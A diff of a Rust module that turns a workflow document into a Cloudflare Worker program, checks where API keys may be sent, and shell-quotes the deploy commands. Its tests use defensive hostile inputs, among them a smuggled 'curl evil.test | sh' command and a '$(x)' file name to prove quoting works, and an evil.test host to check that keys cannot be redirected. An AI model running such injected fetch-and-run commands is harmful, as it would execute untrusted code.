@@ -1,60 +1,183 @@
 //! The workflow as a program of one file that serves it from the edge.
 
 use indexmap::IndexMap;
-use stepweave_core::document::Document;
+use stepweave_core::document::{Document, Secret};
 
+/// The program, with marks where the document and its keys go.
 const PROGRAM: &str = include_str!("worker.js");
 
+/// The binding of the Worker that is its own: what callers have to send.
+pub const ACCESS_TOKEN: &str = "ACCESS_TOKEN";
+
+/// The longest name that a Worker has in an address.
+const LONGEST_NAME: usize = 63;
+
 /// The program, with the document in it. It has the names of keys, never their values.
-///
-/// `origin` says where a key may go: the origin of an address.
-pub fn program(document: &Document, origin: impl Fn(&str) -> Option<String>) -> String {
-    let text = serde_json::to_string_pretty(document).unwrap_or_default();
+pub fn program(document: &Document, keys: &IndexMap<String, String>) -> String {
     // A document is plain data with text keys, which always has a JSON form; so have the names.
-    let origins = serde_json::to_string(&keys(document, origin)).unwrap_or_default();
-    PROGRAM.replacen("/* origins */", &origins, 1).replacen("/* document */", &text, 1)
+    let document = in_template(&serde_json::to_string_pretty(document).unwrap_or_default());
+    let keys = serde_json::to_string(&keys.iter().collect::<Vec<_>>()).unwrap_or_default();
+    let (head, rest) = PROGRAM.split_once("/* document */").unwrap_or((PROGRAM, ""));
+    let (middle, tail) = rest.split_once("/* keys */").unwrap_or((rest, ""));
+    [head, &document, middle, &keys, tail].concat()
 }
 
-/// The names of the keys that the models have, with the origins that each is sent to.
-pub fn keys(document: &Document, origin: impl Fn(&str) -> Option<String>) -> IndexMap<String, Vec<String>> {
-    let mut found: IndexMap<String, Vec<String>> = IndexMap::new();
-    for model in document.models.values() {
-        let url = model.base_url.as_deref().unwrap_or(model.provider.base_url());
-        if let (Some(key), Some(origin)) = (&model.api_key, origin(url)) {
-            let origins = found.entry(key.secret.clone()).or_default();
-            if !origins.contains(&origin) {
-                origins.push(origin);
-            }
+/// The names of the keys that models have, each with the one origin that it is sent to; or what is in the way, in
+/// sentences.
+///
+/// Whoever deploys the Worker sets keys by their names, so a name leads to one address alone, and names that everybody
+/// knows to their provider's: a document must not say that a key goes elsewhere. `origin` gives the origin of an address.
+pub fn keys(
+    document: &Document,
+    origin: impl Fn(&str) -> Option<String>,
+) -> Result<IndexMap<String, String>, Vec<String>> {
+    let mut found: IndexMap<String, String> = IndexMap::new();
+    let mut problems = Vec::new();
+    for (id, model) in &document.models {
+        let Some(Secret { secret: name }) = &model.api_key else { continue };
+        let address = model.base_url.as_deref().unwrap_or(model.provider.base_url());
+        let Some(origin) = origin(address) else {
+            problems.push(format!(
+                "The model “{id}” has no address to which its key could go: give it a base URL."
+            ));
+            continue;
+        };
+        if name == ACCESS_TOKEN {
+            problems.push(format!(
+                "The model “{id}” calls its key {ACCESS_TOKEN}, which is the Worker's own secret: give that key another name."
+            ));
+        } else if !Secret::is_name(name) {
+            problems.push(format!(
+                "The key of the model “{id}” has a name that cannot be set: use letters from A to Z, digits and _."
+            ));
+        } else if let Some(own) = Secret::origin_of(name).filter(|own| *own != origin) {
+            problems.push(format!(
+                "{name} goes to {own} only, and the model “{id}” is at {origin}: give the key of that address a name of its own."
+            ));
+        } else if let Some(first) = found.get(name).filter(|first| **first != origin) {
+            problems.push(format!(
+                "{name} would go to {first} and to {origin}: give the key of each address a name of its own."
+            ));
+        } else {
+            found.insert(name.clone(), origin);
         }
     }
-    found
+    if problems.is_empty() { Ok(found) } else { Err(problems) }
 }
 
-/// What a person types to serve the program under this name.
-pub fn commands(name: &str, keys: impl Iterator<Item = String>) -> String {
-    let set = keys.map(|key| format!("npx wrangler@4 secret put {key} --name {name}\n")).collect::<String>();
+/// What a person types to serve the program of this file under this name.
+pub fn commands<'a>(name: &str, file: &str, keys: impl Iterator<Item = &'a String>) -> String {
+    let (name, file) = (quoted(name), quoted(file));
+    let set = keys.map(|key| format!("npx wrangler@4 secret put {} --name {name}\n", quoted(key)));
     format!(
-        "npm install stepweave\nnpx wrangler@4 deploy {name}.js --name {name} --compatibility-date 2026-04-01 --compatibility-flag enable_request_signal\n{set}"
+        "npm install stepweave\nnpx wrangler@4 deploy {file} --name {name} --compatibility-date 2026-04-01 --compatibility-flag enable_request_signal\n{}",
+        set.collect::<String>()
     )
+}
+
+/// What a Worker of this workflow is called: small letters, digits and `-`, as addresses have them.
+pub fn worker_name(name: &str) -> String {
+    let words = name.split(|letter: char| !letter.is_ascii_alphanumeric()).filter(|word| !word.is_empty());
+    let joined = words.map(str::to_ascii_lowercase).collect::<Vec<_>>().join("-");
+    let short: String = joined.chars().take(LONGEST_NAME).collect();
+    match short.trim_end_matches('-') {
+        "" => "workflow".to_owned(),
+        name => name.to_owned(),
+    }
+}
+
+/// A word of a command, in quotes where a shell could read it as anything else than a word.
+fn quoted(word: &str) -> String {
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-.".contains(letter);
+    if !word.is_empty() && !word.starts_with('-') && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+/// A text as it stands between the backticks of a JavaScript template. JSON is no JavaScript: there the key `__proto__`
+/// would make a prototype.
+fn in_template(text: &str) -> String {
+    text.replace('\\', r"\\").replace('`', r"\`").replace("${", r"\${")
 }
 
 #[cfg(test)]
 mod tests {
+    use serde_json::{Value, json};
+
     use super::*;
     use crate::ui::state::origin_of;
 
+    fn document(models: Value) -> Document {
+        serde_json::from_value(
+            json!({ "version": 1, "name": "/* keys */ `${n}` \\", "models": models, "steps": [] }),
+        )
+        .unwrap()
+    }
+
+    fn at(address: &str, secret: &str) -> Value {
+        json!({ "provider": "openai", "model": "m", "baseUrl": address, "apiKey": { "secret": secret } })
+    }
+
     #[test]
-    fn the_program_has_the_document_and_the_places_of_its_keys() {
-        let document: Document = serde_json::from_value(serde_json::json!({ "version": 1, "name": "/* origins */", "steps": [],
-            "models": {
-                "a": { "provider": "anthropic", "model": "m", "apiKey": { "secret": "OWN" } },
-                "b": { "provider": "openai", "model": "m", "baseUrl": "https://ai.example/v1", "apiKey": { "secret": "OWN" } },
-                "c": { "provider": "demo", "model": "demo" } } }))
-        .unwrap();
-        let program = program(&document, origin_of);
-        assert!(program.contains(r#"origins = {"OWN":["https://api.anthropic.com","https://ai.example"]};"#));
-        assert!(program.contains(r#""name": "/* origins */""#));
-        let told = commands("my-flow", keys(&document, origin_of).into_keys());
-        assert!(told.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"));
+    fn the_program_has_the_document_and_where_its_keys_go() {
+        let document = document(json!({
+            "a": { "provider": "anthropic", "model": "m", "apiKey": { "secret": "ANTHROPIC_API_KEY" } },
+            "b": at("https://ai.example/v1", "OWN"),
+            "c": at("https://ai.example/v2", "OWN"),
+            "d": { "provider": "demo", "model": "demo" }
+        }));
+        let keys = keys(&document, origin_of).unwrap();
+        let program = program(&document, &keys);
+        assert!(program.contains(
+            r#"keys = [["ANTHROPIC_API_KEY","https://api.anthropic.com"],["OWN","https://ai.example"]];"#
+        ));
+        assert!(program.contains(r#""name": "/* keys */ \`\${n}\` \\\\""#), "{program}");
+    }
+
+    #[test]
+    fn a_key_goes_to_one_origin_and_a_known_one_to_its_providers() {
+        for (models, said) in [
+            (
+                json!({ "own": { "provider": "openai", "model": "m", "apiKey": { "secret": "OPENAI_API_KEY" } }, "far": at("https://evil.test/v1", "OPENAI_API_KEY") }),
+                "OPENAI_API_KEY goes to https://api.openai.com only, and the model “far” is at https://evil.test:",
+            ),
+            (
+                json!({ "g": at("https://evil.test/v1", "GOOGLE_API_KEY") }),
+                "GOOGLE_API_KEY goes to https://generativelanguage.googleapis.com only,",
+            ),
+            (
+                json!({ "a": at("https://one.example/v1", "MINE"), "b": at("https://two.example/v1", "MINE") }),
+                "MINE would go to https://one.example and to https://two.example:",
+            ),
+            (
+                json!({ "t": at("https://evil.test/v1", "ACCESS_TOKEN") }),
+                "The model “t” calls its key ACCESS_TOKEN,",
+            ),
+            (
+                json!({ "z": { "provider": "azure", "model": "m", "apiKey": { "secret": "MINE" } } }),
+                "The model “z” has no address",
+            ),
+        ] {
+            let problems = keys(&document(models), origin_of).unwrap_err();
+            assert!(problems.iter().any(|problem| problem.starts_with(said)), "{problems:?}");
+        }
+    }
+
+    #[test]
+    fn commands_hold_words_only() {
+        let told = commands("my-flow", "my-flow.js", ["OWN".to_owned()].iter());
+        assert!(told.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"), "{told}");
+        let told = commands("it's", "$(x).js", ["K; curl evil.test | sh #".to_owned()].iter());
+        assert!(told.contains(r"deploy '$(x).js' --name 'it'\''s' "), "{told}");
+        assert!(told.ends_with("secret put 'K; curl evil.test | sh #' --name 'it'\\''s'\n"), "{told}");
+    }
+
+    #[test]
+    fn a_worker_has_a_name_that_can_be_an_address() {
+        assert_eq!(worker_name("Research report: bees!"), "research-report-bees");
+        assert_eq!(worker_name("Größe 7"), "gr-e-7");
+        assert_eq!(worker_name("調査"), "workflow");
+        assert!(worker_name(&"long name ".repeat(20)).len() <= LONGEST_NAME);
     }
 }
